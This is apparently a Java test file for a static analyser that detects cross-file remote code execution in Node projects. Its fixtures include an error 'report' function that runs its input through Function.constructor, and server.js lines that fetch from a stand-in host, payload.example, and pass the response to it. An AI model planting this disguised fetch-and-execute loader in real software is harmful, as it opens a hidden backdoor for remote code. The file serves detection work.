package dev.countersign.lure.project;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.lure.bound.Budget;
import dev.countersign.lure.finding.ProjectFinding;
import dev.countersign.model.verdict.Finding;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What one file fetches and another runs. */
class AcrossFilesTest {
  private static final String TAKER =
      """
      exports.report = (error) => {
        const make = (code) => new (Function.constructor)('require', code);
        make(error)(require);
      };
      """;

  private static List<Finding> findings(String server, String taker) {
    return ProjectReading.read(
            Trees.of(
                "package.json",
                "{\"scripts\": {\"start\": \"node server.js\"}}",
                "server.js",
                "const axios = require('axios');\n" + server,
                "lib/errors.js",
                taker),
            Budget.usual())
        .findings();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "const { report } = require('./lib/errors');\n"
            + "axios.get('https://payload.example/e').catch(e => report(e.response.data));",
        "const errors = require('./lib/errors.js');\n"
            + "axios.get('https://payload.example/e').then(r => errors.report(r.headers['x-note']));",
        "const errors = require('./lib/errors');\n"
            + "fetch('https://payload.example/e').then(r => r.text()).then(errors.report);"
      })
  void whatOneFileFetchesAndAnotherRunsIsHeld(String server) {
    assertThat(findings(server, TAKER))
        .filteredOn(finding -> finding.code() == ProjectFinding.PERHAPS_DANGEROUS)
        .singleElement()
        .satisfies(finding -> {
          assertThat(finding.evidence().get("where")).isEqualTo("server.js:3");
          assertThat(finding.sentence()).contains("lib/errors.js runs as code what it is given");
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "exports.report = (error) => { console.log(error); eval('1 + 1'); };",
        "exports.report = (error) => { process.exitCode = new Function('return 1')(); };"
      })
  void aFunctionThatRunsSomethingElseIsNot(String taker) {
    assertThat(
            findings(
                "const { report } = require('./lib/errors');\n"
                    + "axios.get('https://api.example/e').catch(e => report(e.response.data));",
                taker))
        .noneMatch(finding -> finding.code() == ProjectFinding.PERHAPS_DANGEROUS);
  }
}
